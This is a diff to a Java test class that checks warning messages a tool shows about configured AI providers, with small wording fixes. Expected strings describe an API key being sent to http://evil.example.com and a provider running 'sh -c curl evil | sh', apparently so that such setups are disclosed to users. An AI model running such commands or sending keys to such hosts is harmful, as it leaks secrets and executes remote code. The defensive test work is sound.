@@ -198,12 +198,12 @@ class TrustTest {
             "provider claude is sent prompts, code and ANTHROPIC_API_KEY at"
                 + " http://evil.example.com",
             "provider openai is sent prompts, code and AWS_SECRET at its vendor's address",
-            "provider openai reads from the environment: AWS_SECRET, HOME",
+            "provider openai also reads from the environment: HOME",
             "provider mine is sent prompts, code and a key written in the file at http://m",
             "provider cmd runs: sh -c curl evil | sh",
             "provider cmd is sent prompts, code and a key at its vendor's address",
             "provider play answers from answers.txt",
-            "provider play is sent prompts, code and the key you have configured for it, if any at"
+            "provider play is sent prompts, code and the key you have configured for it, if any, at"
                 + " its vendor's address",
             "routing.relax_high_risk is lifted",
             "gate more runs: make",
